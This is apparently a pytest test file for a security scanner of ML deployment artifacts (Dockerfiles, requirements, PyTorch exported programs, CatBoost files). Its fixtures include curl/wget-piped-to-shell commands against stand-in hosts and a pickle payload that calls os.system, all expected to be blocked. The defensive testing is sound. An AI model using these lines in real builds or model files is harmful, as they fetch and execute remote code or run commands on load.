"""Dockerfiles, requirements, exported programs and CatBoost binaries."""

from __future__ import annotations

import io
import json
import struct
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.core.formats.buffers import Window
from holdfast.scan import scan
from holdfast.scan.formats.deployment import read_deployment
from holdfast.scan.inspect import Inspector, Seen


def look(tmp_path, data: bytes):
    path = tmp_path / "file"
    path.write_bytes(data)
    report = scan(path)
    coverage = report.coverage
    assert coverage.parsed + coverage.skipped_by_shape + coverage.unread == len(data)
    return report


IMAGE = "FROM python:3.11.9-slim\nCOPY model.onnx /srv/\n"


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        (IMAGE + 'RUN pip install -r requirements.txt\nCMD ["serve"]\n', "clean"),
        ("FROM scratch\nCOPY a b\n", "clean"),
        ("# a model\nARG V=1\nFROM base@sha256:abc\nENV MODEL=/srv/m TOKENIZERS_PARALLELISM=false\n", "clean"),
        (IMAGE + "RUN curl -o model.onnx https://models.example/x | tee log\n", "clean"),
        (IMAGE + "RUN curl -s https://x.example/i | bash\n", "blocked"),
        (IMAGE + "RUN curl -s https://x.example/i \\\n  | sudo /bin/sh -s\n", "blocked"),
        (IMAGE + "RUN wget -qO- https://x.example/i.py | python3 -\n", "blocked"),
        (IMAGE + 'RUN bash -c "$(curl -fsSL https://x.example/i)"\n', "blocked"),
        (IMAGE + "ENV DB_PASSWORD=correct-horse\n", "review"),
        (IMAGE + "ARG API_KEY=0123456789ab\n", "review"),
        (IMAGE + "ENV DB_PASSWORD=$FROM_OUTSIDE\n", "clean"),
        (IMAGE + "ADD https://x.example/m.bin /srv/\n", "review"),
        ("FROM python\nCOPY a b\n", "review"),
        ("FROM python:latest\nCOPY a b\n", "review"),
        ("FROM us to you:\nwe trained a model\non many rows\n", "clean"),
        ("numpy==2.1.0\nxgboost==2.1.1 ; python_version > '3.9'\n", "clean"),
        ("numpy==2.1.0 --hash=sha256:00\n", "clean"),
        ("numpy>=2\n", "review"),
        ("numpy==2.1.0\nxgboost\n", "review"),
        ("numpy==2.*\n", "review"),
        ("numpy==2.1.0\n--extra-index-url https://x.example/simple\n", "review"),
        ("age\nincome\nregion\n", "clean"),
        ("a < b\nand so on, as it goes\n", "clean"),
    ],
)
def test_by_content(tmp_path, text, wanted):
    assert look(tmp_path, text.encode()).verdict == wanted


@given(st.text(max_size=300))
def test_no_text_makes_it_fail(text):
    read_deployment("FROM a:1\nRUN " + text, Seen("other"))
    read_deployment("numpy==1\n" + text, Seen("other"))


@pytest.mark.parametrize("text", ["curl " * 100_000, "PASSWORD" * 100_000, "_" * 100_000, "\\ " * 200_000])
def test_hostile_text_costs_no_time(text):
    read_deployment("FROM a:1\nRUN " + text + "\nENV " + text, Seen("other"))
    read_deployment("numpy==1" + text, Seen("other"))


WEIGHT = {"path_name": "weight_0", "use_pickle": False, "tensor_meta": {"dtype": 7}}


def program(target: str = "torch.ops.aten.linear.default", *, weight: bytes = b"\xff\x01" * 8, **extra: bytes) -> bytes:
    graph = {"graph_module": {"graph": {"nodes": [{"target": target, "inputs": [], "outputs": []}]}}}
    members = {
        "m/archive_format": b"pt2",
        "m/archive_version": b"0",
        "m/models/model.json": json.dumps(graph).encode(),
        "m/data/weights/model_weights_config.json": json.dumps({"config": {"w": WEIGHT}}).encode(),
        "m/data/weights/weight_0": weight,
        **{name.replace("__", "/"): content for name, content in extra.items()},
    }
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


@pytest.mark.parametrize(
    ("data", "wanted"),
    [
        (program(), "clean"),
        (program("torch.ops.bank.score.default"), "unknown"),
        (program(weight=b"\x80\x02cos\nsystem\n(S'id'\ntR."), "blocked"),
        (program(m__data__weights__weight_1=b"\xff\x01" * 8), "unknown"),
        (program(m__data__aotinductor__m__a=b"\x7fELF" + bytes(60)), "unknown"),
        (program(m__data__constants__c=b"\x80\x02cos\nsystem\n(S'id'\ntR."), "blocked"),
    ],
)
def test_exported_programs(tmp_path, data, wanted):
    found = look(tmp_path, data)
    assert (found.format, found.verdict) == ("pt2", wanted)


def catboost(version: bytes = b"FlabuffersModel_v1", parts: int = 0, trees: int = 8) -> bytes:
    """A root offset, a vtable of four fields, the table, and the version's text."""
    vtable = struct.pack("<HHHHHH", 12, 20, 4, trees, 12, parts)
    table_at = 4 + len(vtable)
    table = struct.pack("<iLLLL", len(vtable), 16, 0, 0, 0)
    core = struct.pack("<L", table_at) + vtable + table + struct.pack("<L", len(version)) + version + b"\0\0"
    return b"CBM1" + struct.pack("<L", len(core)) + core


@pytest.mark.parametrize(
    ("data", "wanted"),
    [
        (catboost(), "clean"),
        (catboost(version=b"FlabuffersModel_v9"), "unknown"),
        (catboost(parts=16), "unknown"),
        (catboost(trees=0), "unknown"),
        (catboost() + b"x", "unknown"),
        (catboost()[:-4], "unknown"),
        (b"CBM1" + bytes(40), "unknown"),
    ],
)
def test_catboost_binaries(tmp_path, data, wanted):
    found = look(tmp_path, data)
    assert (found.format, found.verdict) == ("catboost-cbm", wanted)


@given(st.binary(max_size=40), st.integers(0, 60))
def test_no_bytes_make_the_frame_fail(noise, at):
    data = catboost()
    data = data[:at] + noise + data[at + len(noise) :]
    assert Inspector().inspect(Window.whole(data), kind="catboost-cbm").size == len(data)


@pytest.mark.parametrize("line", ["-e git+https://a.example/x.git#egg=x", "-r https://a.example/r.txt"])
def test_a_requirement_from_an_address_is_not_pinned(line, tmp_path):
    (tmp_path / "requirements.txt").write_text(f"numpy==2.0.0\nscipy==1.17.1\n{line}\n", encoding="utf-8")
    assert [hit.rule.id for hit in scan(tmp_path / "requirements.txt").hits] == ["unpinned"]
